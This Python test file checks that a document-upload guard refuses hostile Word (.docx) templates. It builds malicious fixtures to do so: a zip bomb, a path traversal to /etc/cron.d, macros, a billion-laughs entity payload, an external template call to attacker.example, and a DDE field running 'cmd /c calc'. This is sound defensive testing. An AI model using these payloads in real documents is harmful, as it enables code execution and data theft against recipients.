"""Hostile uploads: each refused with a precise message before anything is parsed or executed."""

from __future__ import annotations

import io
import zipfile

import pytest

from govkit.documents.guard import GuardLimits, guard
from govkit.documents.kinds import catalogue
from govkit.documents.validate import validate_template
from tests.docx_factory import entry, minimal_docx, mutate

VALID = minimal_docx()


def _messages(data: bytes, limits: GuardLimits | None = None) -> list[str]:
    report = validate_template(data, kind="internal", language="fr", catalogue=catalogue(), limits=limits)
    assert not report.valid
    return [f"{i.part}: {i.message}" for i in report.items if i.severity == "error"]


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def test_the_minimal_template_is_valid() -> None:
    report = validate_template(VALID, kind="internal", language="fr", catalogue=catalogue())
    assert report.valid, report.items
    assert set(report.clauses) == set(catalogue().kind("internal").required_clauses)
    assert "school.short_name" in report.variables


def test_file_over_the_size_cap() -> None:
    (message,) = _messages(VALID, GuardLimits(max_file_bytes=1000))
    assert "over the limit of 1000 bytes" in message


def test_not_a_zip() -> None:
    (message,) = _messages(b"%PDF-1.7 not a docx")
    assert "not a Word document (.docx): it is a PDF file" in message
    (message,) = _messages(b"plain text, not a docx")
    assert "not a Word document (.docx): it is not a ZIP package" in message


def test_zip_bomb_is_stopped_while_streaming() -> None:
    bomb = mutate(VALID, add={"word/media/bomb.bin.txt": b"\0" * (30 * 1024 * 1024)})
    assert len(bomb) < 200_000
    (message,) = _messages(bomb)
    assert "zip bomb" in message
    assert "word/media/bomb.bin.txt" in message


def test_too_many_entries() -> None:
    crowded = mutate(VALID, add={f"extra/item{i}.xml": b"<a/>" for i in range(400)})
    (message,) = _messages(crowded)
    assert "over the limit of 300" in message


def test_path_traversal() -> None:
    (message,) = _messages(_zip([("../../etc/cron.d/x", b"x"), ("word/document.xml", b"<a/>")]))
    assert "escapes the package" in message


def test_macros_are_refused() -> None:
    types = entry(VALID, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    macro = mutate(VALID, replace={"[Content_Types].xml": types}, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    messages = _messages(macro)
    assert any("macros" in m and "vbaProject.bin" in m for m in messages)


def test_macro_enabled_document_type_is_refused() -> None:
    types = entry(VALID, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    messages = _messages(mutate(VALID, replace={"[Content_Types].xml": types}))
    assert any("macro-enabled" in m for m in messages)


def test_doctype_and_entities_are_refused() -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        b"<w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>"
    )
    (message,) = _messages(mutate(VALID, replace={"word/document.xml": laughs}))
    assert "DOCTYPE" in message
    assert message.startswith("word/document.xml")


def test_external_relationship_is_refused() -> None:
    rels = entry(VALID, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
    )
    (message,) = _messages(mutate(VALID, replace={"word/_rels/document.xml.rels": rels}))
    assert "external relationship" in message
    assert "attacker.example" in message


def test_web_hyperlinks_are_allowed() -> None:
    rels = entry(VALID, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://www.imt.fr/" TargetMode="External"/></Relationships>',
    )
    assert guard(mutate(VALID, replace={"word/_rels/document.xml.rels": rels})).ok


def test_alt_chunk_is_refused() -> None:
    rels = entry(VALID, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdA" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'aFChunk" Target="evil.html"/></Relationships>',
    )
    messages = _messages(
        mutate(VALID, replace={"word/_rels/document.xml.rels": rels}, add={"word/evil.html": b"<html/>"})
    )
    assert any("altChunk" in m for m in messages)


@pytest.mark.parametrize(
    ("field", "name"),
    [
        (b'<w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.docx&quot; "/>', "INCLUDETEXT"),
        (b'<w:fldSimple w:instr="INCLUDEPICTURE http://attacker.example/x.png"/>', "INCLUDEPICTURE"),
        (
            b"<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd /c calc</w:instrText></w:r>",
            "DDE",
        ),
    ],
)
def test_dangerous_fields_are_refused(field: bytes, name: str) -> None:
    document = entry(VALID, "word/document.xml").replace(b"<w:body>", b"<w:body><w:p>" + field + b"</w:p>", 1)
    messages = _messages(mutate(VALID, replace={"word/document.xml": document}))
    assert any(f"{name} field is not accepted" in m for m in messages)


def test_tracked_changes_are_refused_with_their_paragraph() -> None:
    document = entry(VALID, "word/document.xml").replace(
        b"<w:body>",
        b'<w:body><w:p><w:r><w:t>a</w:t></w:r></w:p><w:p><w:ins w:id="1" w:author="x" w:date="2021-01-01T00:00:00Z">'
        b"<w:r><w:t>inserted</w:t></w:r></w:ins></w:p>",
        1,
    )
    report = validate_template(
        mutate(VALID, replace={"word/document.xml": document}),
        kind="internal",
        language="fr",
        catalogue=catalogue(),
    )
    item = next(i for i in report.items if "tracked change" in i.message)
    assert item.paragraph == 2
    assert "accept or reject" in item.message


def test_utf16_parts_are_refused() -> None:
    document = entry(VALID, "word/document.xml").decode("utf-8").encode("utf-16")
    (message,) = _messages(mutate(VALID, replace={"word/document.xml": document}))
    assert "UTF-8" in message


def test_missing_required_clause_is_named() -> None:
    from govkit.documents.ooxml import CLAUSE_TAG_PREFIX

    document = entry(VALID, "word/document.xml").replace(
        f"{CLAUSE_TAG_PREFIX}vss.reporting".encode(), f"{CLAUSE_TAG_PREFIX}vss.reporting_old".encode()
    )
    messages = _messages(mutate(VALID, replace={"word/document.xml": document}))
    assert any("required clause vss.reporting (Signalement) is missing" in m for m in messages)
    assert any("vss.reporting_old is not in the clause library" in m for m in messages)
